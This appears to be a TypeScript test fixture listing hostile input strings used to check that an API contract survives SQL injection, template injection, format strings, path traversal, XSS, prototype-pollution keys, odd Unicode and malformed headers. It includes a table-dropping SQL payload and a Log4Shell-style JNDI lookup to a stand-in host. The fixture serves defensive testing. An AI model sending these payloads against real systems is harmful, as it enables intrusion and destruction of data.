/** Text that breaks out of something in careless programs: SQL, templates, formats, paths, markup, Unicode. None of it breaks the contract. */
export const HOSTILE_TEXT: readonly string[] = [
  "' or 1=1 --",
  "'; drop table member; --",
  "\\'; select pg_sleep(9); --",
  "1) union select password_hash from member --",
  "$1 $2 $" + "{jndi:ldap://x.example/a}",
  "{{7*7}}<%= 7*7 %>#{7*7}$" + "{7*7}",
  "%s%n%x%p %00 %ff %",
  "../../../../etc/passwd",
  "<script>alert(1)</script><img src=x onerror=alert(1)>",
  "&lt;&amp;&#0;",
  "__proto__",
  "constructor",
  "toString",
  "null",
  "NaN",
  "-0",
  "1e309",
  "0x10",
  "٣٤",
  "１２",
  "\ufffd\uffff\u{10ffff}",
  "\u202eabc\u200b\u2066",
  "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔",
  "👩‍👩‍👧‍👦",
  "\u0001\u0007\u001b[31m\r\n",
  "\\",
  '"',
  "_%\\_",
  "a:* & !b | (c <-> d)",
  "{1,2,NULL}",
  '{"$gt":""}',
  "[object Object]",
  "İıſK",
];

/** What neither PostgreSQL nor any keyboard knows as text: refused wherever the contract has a field. */
export const UNSTORABLE_TEXT: readonly string[] = ["\0", "a\0b", "\ud800", "x\udc00y", "\udfff\ud800"];

/** The same for headers, which hold bytes. */
export const HOSTILE_HEADERS: readonly string[] = [
  "' or 1=1 --",
  "null",
  "Bearer x",
  "\xff\xfe\xe9",
  "../../x",
  "*",
  ";;,q=;q=9,,en;q=x",
  "{{7*7}}",
  "x".repeat(101),
  "x".repeat(8_000),
  "00000000-0000-0000-0000-000000000000",
];
